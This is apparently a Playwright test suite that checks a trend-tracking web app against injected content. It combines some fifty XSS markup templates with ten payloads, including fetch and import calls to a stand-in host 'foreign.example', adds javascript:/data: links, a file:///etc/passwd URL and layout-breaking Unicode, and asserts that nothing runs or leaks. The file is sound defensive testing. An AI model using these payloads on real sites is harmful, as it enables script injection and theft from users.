"""Texts that want to break out of the page, of its layout or of their line: none does anything or goes anywhere."""

from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import timedelta
from itertools import product
from typing import Any
from urllib.parse import quote

import pytest
import pytest_asyncio
from looking import MISSING, TOO_WIDE, Eyes, View, logged_in
from newsroom import NOON, Newsroom, ranked, take_in
from odd_rooms import OddWorkflows, access_to, furnish
from playwright.async_api import Page, expect
from serving import Served, served

from trend_agent.items import Item, digest
from trend_agent.storage.sql.watches import SqlWatches

pytestmark = pytest.mark.asyncio(loop_scope="module")

DO = (
    "broken()", "alert(1)", "top.broken()", "setTimeout('broken()')", "eval('broken()')",
    "fetch('//foreign.example')", "new Image().src='//foreign.example/x'", "document.title='broken'",
    "location='//foreign.example'", "import('//foreign.example/x.js')",
)  # fmt: skip
MARKUP = (
    "<script>{}</script>", "<ScRiPt/x>{}</ScRiPt>", "<img src=x onerror={}>", "<svg onload={}>",
    "<svg/onload={}//", "<iframe srcdoc='<script>{}</script>'>", "<iframe src='javascript:{}'>",
    "<a href='javascript:{}'>x</a>", "<body onload={}>", "<input autofocus onfocus={}>",
    "<details open ontoggle={}>", "<video><source onerror={}>", "<math><mtext><script>{}</script>",
    "<object data='javascript:{}'>", "<embed src='javascript:{}'>", "<form action='javascript:{}'><button>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<style>@import '//foreign.example';</style>{}",
    "<link rel=stylesheet href=//foreign.example>{}", "<base href='//foreign.example/'>{}",
    "</title><script>{}</script>", "</textarea><script>{}</script>", "--><script>{}</script>",
    "]]><script>{}</script>", "'\"><script>{}</script>", "\"onmouseover=\"{}\" x=\"",
    "' onfocus='{}' autofocus='", "`${{{}}}`", "{{{{constructor.constructor('{}')()}}}}", "{{{{{}}}}}",
    "${{{}}}", "<%= {} %>", "<!--[if gte IE 4]><script>{}</script>",
    "<xss style=animation-name:x onanimationstart={}>", "<marquee onstart={}>",
    "<select><style></select><img src=x onerror={}>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "%3Cscript%3E{}%3C/script%3E",
    "\x3cscript\x3e{}\x3c/script\x3e", "<svg><animate onbegin={} attributeName=x>", "<svg><set onbegin={}>",
    "<img src='//foreign.example/a.png' alt='{}'>", "<audio src='//foreign.example/a.mp3' onerror={}>",
    "<a href='data:text/html,<script>{}</script>'>", "[x](javascript:{})", "![x](//foreign.example/x.png){}",
    "{{\"__proto__\":{{\"x\":\"{}\"}}}}",
)  # fmt: skip
LINKS = (
    "javascript:{}", "JAVASCRIPT:{}", "java\tscript:{}", "\x01javascript:{}",
    "data:text/html,<script>{}</script>", "vbscript:{}", "//foreign.example/{}", "blob:{}",
    "file:///etc/passwd#{}", "https://foreign.example/\"onclick=\"{}",
)  # fmt: skip
LAYOUT = (
    "W" * 10_000, "ا" * 10_000, "语" * 10_000, "word " * 2_000, "\u202e" + "right to left " * 20,
    "\u2067\u202e\u2066" * 60 + "isolates", "Z" + "\u0300\u0301\u0302\u0303\u0304\u0305" * 300,
    "\u200b\u200d\ufeff" * 200, "👨‍👩‍👧‍👦" * 300, "﷽" * 200, "\n" * 300 + "lines", "𒐫" * 200,
)  # fmt: skip

VECTORS = [m.format(d) for m, d in product(MARKUP, DO)] + list(LAYOUT)
EACH = 26
"""Vectors of one topic."""


def hostile(number: int, text: str) -> Item:
    """An item all of whose texts are hostile; those that tell things apart stay different."""
    link = LINKS[number % len(LINKS)].format(DO[number % len(DO)])
    return Item(
        id=f"odd:{digest(text, str(number))}",
        source=f"{text[:150]}{number % 7}",
        title=text,
        body=f"{text} Another sentence: {text[:300]}. And {link}.",
        url=link,
        author=text[:200],
        lang="en",
        seen_at=NOON - timedelta(minutes=number % 170),
        published_at=NOON - timedelta(minutes=number % 170 + 1),
    )


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def odd_site(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Served]:
    """Topics of nothing but hostile items, ranked as any other."""
    with served(tmp_path_factory.mktemp("odd"), filled=False) as here:
        for start in range(0, len(VECTORS), EACH):
            told = [(hostile(start + n, text), None) for n, text in enumerate(VECTORS[start : start + EACH])]
            await take_in(here.desk.records, f"t{start}", told)
        await here.desk.records.publish(await ranked(here.desk.records, NOON))
        yield here


async def listen(view: View) -> list[str]:
    """What the texts managed to call."""
    called: list[str] = []
    await view.page.expose_function("broken", lambda *_: called.append("broken"))
    view.page.on("dialog", lambda dialog: called.append(dialog.message))
    return called


async def test_there_are_enough_vectors() -> None:
    assert len(set(VECTORS)) >= 500


async def test_the_list_runs_nothing_and_holds_its_layout(eyes: Eyes, odd_site: Served) -> None:
    for width in (390, 1280):
        async with eyes.view(odd_site.address, width=width) as view:
            called = await listen(view)
            page = await view.go("/")
            await page.locator(".row").first.wait_for()
            heights = await page.evaluate(
                "() => [...new Set([...document.querySelectorAll('.row')].map(r => r.offsetHeight))]"
            )
            assert len(heights) == 1
            assert await page.evaluate(TOO_WIDE) == []
            await page.locator("input[type=search]").fill("<script>")
            await page.locator(".archive li, .empty, .row").first.wait_for()
            assert await page.evaluate(TOO_WIDE) == []
            assert (called, await page.title()) == ([], "Trend Agent")
            view.quiet()


async def test_no_trend_page_runs_anything_or_leads_anywhere_it_should_not(
    eyes: Eyes, odd_site: Served
) -> None:
    topics = [f"t{start}" for start in range(0, len(VECTORS), EACH)]
    bad = """() => [...document.querySelectorAll('a[href], [src], form[action]')]
      .map(e => e.href || e.src || e.action)
      .filter(a => !a.startsWith(location.origin) && !/^https:[/][/]foreign[.]example[/]/.test(a))"""
    async with eyes.view(odd_site.address, width=900, height=700) as view:
        called = await listen(view)
        for topic in topics:
            page = await view.go(f"/trends/{topic}")
            await page.locator(".groups .item").first.wait_for()
            await page.evaluate("() => document.querySelectorAll('details').forEach(d => { d.open = true })")
            assert await page.evaluate(TOO_WIDE) == []
            assert await page.evaluate(bad) == []
            assert "broken" not in (await page.title()).split(" · ")[-1]
        assert called == []
        view.quiet(but=MISSING)


async def test_the_longest_titles_stay_within_their_bounds_on_a_phone(eyes: Eyes, odd_site: Served) -> None:
    last = f"t{(len(VECTORS) - 1) // EACH * EACH}"
    async with eyes.view(odd_site.address, width=390) as view:
        page = await view.go(f"/trends/{last}")
        await page.locator(".groups .item").first.wait_for()
        assert await page.evaluate(TOO_WIDE) == []
        tall = """() => [...document.querySelectorAll('.item .title, .one h1')]
          .filter(e => e.offsetHeight > 360).length"""
        assert await page.evaluate(tall) == 0
        view.quiet(but=MISSING)


@dataclass(frozen=True)
class OddHouse:
    """Where it is served, and the keys under which all that is hostile in it is seen."""

    address: str
    keys: list[str]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def odd_house(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[OddHouse]:
    """Rooms in which every name and every fault is hostile."""

    def rooms(desk: Newsroom) -> dict[str, Any]:
        watches = SqlWatches(desk.records.database)
        return {"access": access_to(desk), "executions": OddWorkflows(VECTORS), "watches": watches}

    with served(tmp_path_factory.mktemp("rooms"), filled=False, rooms=rooms) as here:
        yield OddHouse(here.address, await furnish(here.desk, VECTORS, access_to(here.desk).known))


async def unharmed(view: View, called: list[str]) -> None:
    """Nothing of it ran, was asked for, or broke the layout."""
    assert await view.page.evaluate(TOO_WIDE) == []
    assert await view.page.title() != "broken"
    assert called == []
    view.quiet(but=MISSING)


async def whole(page: Page, name: str) -> int:
    """How many rows the table of that name has, once it shows all of them."""
    table = page.locator(".tabled", has=page.get_by_role("region", name=name, exact=True))
    await table.locator("tbody tr").first.wait_for()
    rest = table.get_by_role("button", name="Show all")
    if await rest.count():
        await rest.click()
        await expect(rest).to_have_count(0)
    return await table.locator("tbody tr").count()


@pytest.mark.parametrize("width", [390, 1280])
async def test_sources_and_workflows_run_nothing_and_hold_their_layout(
    eyes: Eyes, odd_house: OddHouse, width: int
) -> None:
    async with eyes.view(odd_house.address, width=width) as view:
        called = await listen(view)
        await logged_in(view, odd_house.keys[0])
        for path, name in (
            ("/sources", "Sources"),
            ("/workflows", "Workflows"),
            ("/workflows/all", "Steps"),
        ):
            page = await view.go(path)
            assert await whole(page, name) >= len(VECTORS)
            await unharmed(view, called)


async def test_no_source_and_no_run_has_a_page_that_breaks(eyes: Eyes, odd_house: OddHouse) -> None:
    async with eyes.view(odd_house.address, width=390) as view:
        called = await listen(view)
        for n in [*range(0, len(VECTORS), 60), *range(len(VECTORS) - len(LAYOUT), len(VECTORS))]:
            for path in (f"/sources/{quote(f'{n}:{VECTORS[n][:150]}', safe='')}", f"/workflows/run {n} "):
                page = await view.go(path)
                await page.locator("h1, .fault").first.wait_for()
                await unharmed(view, called)


async def test_calls_keys_watches_alerts_and_deeds_run_nothing(eyes: Eyes, odd_house: OddHouse) -> None:
    seen = {"calls": 0, "audit": 0}
    async with eyes.view(odd_house.address, width=390) as view:
        called = await listen(view)
        page = await view.go("/scorecard")
        seen["calls"] = await leafed(page, "Calls, and how they came out", "calls", view, called)
        await logged_in(view, odd_house.keys[0])
        assert await whole(page, "Keys") >= len(VECTORS)
        seen["audit"] = await leafed(page, "What was changed", "audit", view, called)
        assert min(seen.values()) >= len(VECTORS)
        watched = told = 0
        for key in odd_house.keys:
            await logged_out(page)
            await logged_in(view, key)
            watched += await whole(page, "Watches")
            told += await leafed(page, "Alerts", "alerts", view, called)
        assert (watched, told) == (len(VECTORS), len(VECTORS))


async def logged_out(page: Page) -> None:
    await page.get_by_role("button", name="Log out").click()
    await page.get_by_role("button", name="Log in").wait_for()


async def leafed(page: Page, name: str, cursor: str, view: View, called: list[str]) -> int:
    """How many rows a table has on all its pages, each looked at."""
    section = page.locator("section", has=page.get_by_role("heading", name=name, exact=True))
    older, rows = section.get_by_role("button", name="Older"), 0
    while True:
        rows += await whole(page, name)
        await unharmed(view, called)
        if not await older.count():
            return rows
        before = page.url
        async with page.expect_response(lambda answer: f"/{cursor}?cursor=" in answer.url):
            await older.click()
        await expect(page).not_to_have_url(before)


async def test_feeds_read_by_a_browser_run_nothing(eyes: Eyes, odd_site: Served) -> None:
    topic = f"t{len(VECTORS) // EACH // 2 * EACH}"
    feeds = ("trends.{}?limit=100", f"topics/{topic}.{{}}?limit=100", "search.{}?q=script", "sources.{}")
    async with eyes.view(odd_site.address) as view:
        called = await listen(view)
        for name, form in product(feeds, ("atom", "rss", "json")):
            answer = await view.page.goto(f"{odd_site.address}/feeds/{name.format(form)}")
            assert answer is not None
            assert answer.status == 200, await answer.text()
            assert "html" not in answer.headers["content-type"]
            assert answer.headers["x-content-type-options"] == "nosniff"
            await view.page.wait_for_load_state("networkidle")
        assert (called, view.foreign) == ([], [])
